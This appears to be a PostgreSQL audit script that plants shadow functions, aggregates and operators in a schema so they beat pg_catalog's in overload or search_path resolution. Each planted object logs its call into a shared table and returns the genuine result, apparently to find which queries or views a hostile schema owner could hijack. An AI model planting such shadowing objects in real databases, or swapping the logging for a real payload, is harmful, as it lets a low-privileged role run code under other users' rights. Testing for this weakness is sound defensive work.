-- plant.sql - what a hostile role with CREATE on a schema can leave for others to run.
-- psql -v schema=NAME -f plant.sql, as that role. Every planted function or operator
-- logs its name into public.planted_calls (writable by all) and then does what the
-- real one would, so a victim that resolves to it notices nothing but the log.
-- The signatures are the ones that beat pg_catalog's in overload resolution
-- (unnest(text[]) against pg_catalog.unnest(anyarray), ...) and, for a victim whose
-- search_path puts pg_catalog last, exact copies of pg_catalog's.
SET search_path = :"schema";

CREATE FUNCTION unnest(a text[]) RETURNS SETOF text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('unnest(text[])');
RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
CREATE FUNCTION unnest(a integer[]) RETURNS SETOF integer LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('unnest(integer[])');
RETURN QUERY SELECT pg_catalog.unnest(a); END $$;

CREATE FUNCTION planted_count(s bigint, v anyelement) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('count'); RETURN s + 1; END $$;
CREATE AGGREGATE count(text) (sfunc = planted_count, stype = bigint, initcond = '0');
CREATE AGGREGATE count(integer) (sfunc = planted_count, stype = bigint, initcond = '0');
CREATE AGGREGATE count(bigint) (sfunc = planted_count, stype = bigint, initcond = '0');
CREATE AGGREGATE count(date) (sfunc = planted_count, stype = bigint, initcond = '0');

CREATE FUNCTION planted_sum(s double precision, v double precision) RETURNS double precision
LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('sum');
RETURN COALESCE(s, 0) + v; END $$;
CREATE AGGREGATE sum(double precision) (sfunc = planted_sum, stype = double precision);
CREATE FUNCTION planted_sum_int(s bigint, v integer) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('sum'); RETURN coalesce(s, 0) + v; END $$;
CREATE AGGREGATE sum(integer) (sfunc = planted_sum_int, stype = bigint);

CREATE FUNCTION planted_max(s anyelement, v anyelement) RETURNS anyelement LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('max');
RETURN CASE WHEN s IS NULL OR v > s THEN v ELSE s END; END $$;
CREATE AGGREGATE max(integer) (sfunc = planted_max, stype = integer);
CREATE AGGREGATE max(date) (sfunc = planted_max, stype = date);
CREATE AGGREGATE max(text) (sfunc = planted_max, stype = text);
CREATE AGGREGATE max(bigint) (sfunc = planted_max, stype = bigint);

CREATE FUNCTION "coalesce"(a text, b text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('coalesce'); RETURN COALESCE(a, b); END $$;
CREATE FUNCTION "coalesce"(a integer, b integer) RETURNS integer LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('coalesce'); RETURN COALESCE(a, b); END $$;

CREATE FUNCTION lower(a text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('lower(text)'); RETURN pg_catalog.lower(a); END $$;
CREATE FUNCTION lower(a varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('lower(varchar)'); RETURN pg_catalog.lower(a); END $$;

CREATE FUNCTION date_trunc(f text, t timestamptz) RETURNS timestamptz LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('date_trunc(timestamptz)');
RETURN pg_catalog.date_trunc(f, t); END $$;
CREATE FUNCTION date_trunc(f text, t timestamp) RETURNS timestamp LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('date_trunc(timestamp)');
RETURN pg_catalog.date_trunc(f, t); END $$;
CREATE FUNCTION date_trunc(f varchar, t timestamp) RETURNS timestamp LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('date_trunc(varchar, timestamp)');
RETURN pg_catalog.date_trunc(f, t); END $$;

CREATE FUNCTION planted_eq(a text, b text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('=(text)'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR = (function = planted_eq, leftarg = text, rightarg = text);
CREATE FUNCTION planted_eq(a integer, b integer) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('=(integer)'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR = (function = planted_eq, leftarg = integer, rightarg = integer);
CREATE FUNCTION planted_eq(a bigint, b bigint) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('=(bigint)'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR = (function = planted_eq, leftarg = bigint, rightarg = bigint);
CREATE FUNCTION planted_eq(a date, b date) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('=(date)'); RETURN a OPERATOR(pg_catalog.=) b; END $$;
CREATE OPERATOR = (function = planted_eq, leftarg = date, rightarg = date);

CREATE FUNCTION planted_cat(a text, b text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('||(text, text)');
RETURN a OPERATOR(pg_catalog.||) b; END $$;
CREATE OPERATOR || (function = planted_cat, leftarg = text, rightarg = text);
CREATE FUNCTION planted_cat(a text, b integer) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('||(text, integer)');
RETURN a OPERATOR(pg_catalog.||) b; END $$;
CREATE OPERATOR || (function = planted_cat, leftarg = text, rightarg = integer);
CREATE FUNCTION planted_cat(a text[], b text) RETURNS text[] LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('||(text[], text)');
RETURN a OPERATOR(pg_catalog.||) b; END $$;
CREATE OPERATOR || (function = planted_cat, leftarg = text[], rightarg = text);

-- For the BI views (migration 7): to_char(date, text) beats pg_catalog's
-- to_char(timestamp, text), which a date needs a cast for; * and > are exact copies.
CREATE FUNCTION to_char(d date, f text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('to_char(date, text)');
RETURN pg_catalog.to_char(d::timestamp, f); END $$;
CREATE FUNCTION planted_mul(a double precision, b double precision) RETURNS double precision
LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('*(float8)'); RETURN a OPERATOR(pg_catalog.*) b; END $$;
CREATE OPERATOR * (function = planted_mul, leftarg = double precision, rightarg = double precision);
CREATE FUNCTION planted_gt(a double precision, b double precision) RETURNS boolean
LANGUAGE plpgsql AS $$
BEGIN INSERT INTO public.planted_calls VALUES ('>(float8)'); RETURN a OPERATOR(pg_catalog.>) b; END $$;
CREATE OPERATOR > (function = planted_gt, leftarg = double precision, rightarg = double precision);
